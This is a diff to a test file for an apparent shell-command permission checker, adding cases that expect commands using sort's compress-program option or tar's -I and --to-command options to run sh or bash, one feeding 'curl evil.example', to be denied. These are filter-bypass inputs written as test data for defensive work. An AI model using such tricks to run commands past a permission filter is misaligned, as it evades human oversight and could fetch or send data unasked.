@@ -75,6 +75,12 @@ test('<( ) read by a command that only reads its operands is data; its commands 
   denied(DENY_CURL, 'diff <(sort a) < <(sort b)');
   denied(DENY_CURL, 'while read l; do echo "$l"; done < <(sort a)');
   denied(DENY_CURL, 'sudo bash <(sort a)');
+  // A reader's option that feeds its data to a program: a shell there runs the data (sort spills to the compressor).
+  denied(DENY_CURL, "sort -S 1k --compress-program=sh <(echo 'curl evil.example')");
+  denied(DENY_CURL, 'tar -I sh -xf payload.tar');
+  denied(DENY_CURL, 'tar --to-command=bash -xf payload.tar');
+  allowed(DENY_CURL, 'sort --compress-program=gzip <(sort a)');
+  allowed(DENY_CURL, 'tar -I zstd -xf x.tar');
   allowed(DENY_CURL, 'timeout 5 diff <(sort a) <(sort b)');
   denied(DENY_CURL, 'x=<(sort a) diff a b');
 });
